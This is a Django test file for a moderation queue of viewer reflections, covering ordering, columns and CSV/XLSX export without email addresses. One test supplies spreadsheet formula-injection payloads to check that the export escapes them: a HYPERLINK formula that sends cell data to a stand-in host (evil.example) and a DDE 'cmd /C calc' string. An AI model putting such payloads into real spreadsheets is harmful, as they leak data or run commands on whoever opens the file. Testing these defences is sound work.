"""The curators' queue of reflections: waiting ones first, each column saying one thing, and an
export with a header row and one row per reflection (never an address)."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.utils import timezone
from django.utils.html import strip_tags
from openpyxl import load_workbook

from alongside.core.moderation import moderate
from alongside.reflections.models import Reflection
from alongside.reflections.services import post_reflection

pytestmark = pytest.mark.django_db

QUEUE = "/admin/snippets/reflections/reflection/"


@pytest.fixture
def reflections(video):
    """Published, waiting and rejected reflections, written an hour apart (oldest first)."""
    written = []
    for number, name in enumerate(["Old published", "Old waiting", "Rejected", "New published"]):
        reflection = post_reflection(
            video=video,
            name=name,
            email=f"viewer{number}@example.org",
            text=f"What {name.lower()} wrote.",
            idempotency_key=str(number),
            mode="hold",
        ).reflection
        Reflection.objects.filter(pk=reflection.pk).update(
            created_at=timezone.now() - timedelta(hours=10 - number)
        )
        written.append(reflection)
    moderate(items=[written[0], written[3]], action="approve")
    moderate(items=[written[2]], action="reject")
    return written


def column(html: str, classname: str) -> list[str]:
    """The text of one column of the queue, top to bottom (for the title column, the link)."""
    table = html.split('<table class="listing', 1)[1]
    cells = re.findall(rf'<td class="{classname}">(.*?)</td>', table, re.S)
    return [" ".join(strip_tags(re.split(r"</a>", cell)[0]).split()) for cell in cells]


def names_in_order(html: str) -> list[str]:
    return column(html, "title")


def test_the_queue_lists_what_awaits_review_first_then_the_newest(admin_client, reflections):
    html = admin_client.get(QUEUE).content.decode()
    order = names_in_order(html)
    assert order == ["Old waiting", "New published", "Rejected", "Old published"], order
    # the status filter still shows any one status
    published = admin_client.get(QUEUE + "?status=published").content.decode()
    assert names_in_order(published) == ["New published", "Old published"]


def test_the_reflection_column_shows_the_words_not_the_name_again(admin_client, reflections):
    html = admin_client.get(QUEUE).content.decode()
    assert column(html, "prose")[0] == "What old waiting wrote."


def test_the_bulk_action_bar_says_how_many_reflections_are_selected(admin_client, reflections):
    html = admin_client.get(QUEUE).content.decode()
    assert 'data-bulk-action-footer="reflections.reflection"' in html
    assert '"SINGULAR": "1 reflection selected"' in html
    assert '"PLURAL": "%(objects)s reflections selected"' in html


def test_the_export_has_a_header_and_one_row_per_reflection_without_addresses(
    admin_client, reflections
):
    response = admin_client.get(QUEUE + "?export=csv")
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["Video", "Name", "Reflection", "Status", "Reports", "Written"]
    assert len(rows) == 1 + len(reflections)
    by_name = {row[1]: row for row in rows[1:]}
    assert by_name["Old waiting"][:5] == [
        "The Finish Line",
        "Old waiting",
        "What old waiting wrote.",
        "Awaiting moderation",
        "0",
    ]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", by_name["Old waiting"][5])
    assert "@" not in text

    response = admin_client.get(QUEUE + "?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert cells[0] == rows[0] and len(cells) == 1 + len(reflections)
    assert not any("@" in str(value) for row in cells for value in row)


# (A tab or a carriage return first is defused too, but names and words are stored trimmed.)
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_words_that_look_like_formulas_stay_text_in_the_export(admin_client, video, start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    post_reflection(
        video=video,
        name=f"{start}cmd|' /C calc'!A0",
        email="viewer@example.org",
        text=formula,
        idempotency_key="formula",
        mode="open",
    )
    response = admin_client.get(QUEUE + "?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    [row] = rows[1:]
    assert row[1] == f"'{start}cmd|' /C calc'!A0"
    assert row[2] == f"'{formula}"

    response = admin_client.get(QUEUE + "?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
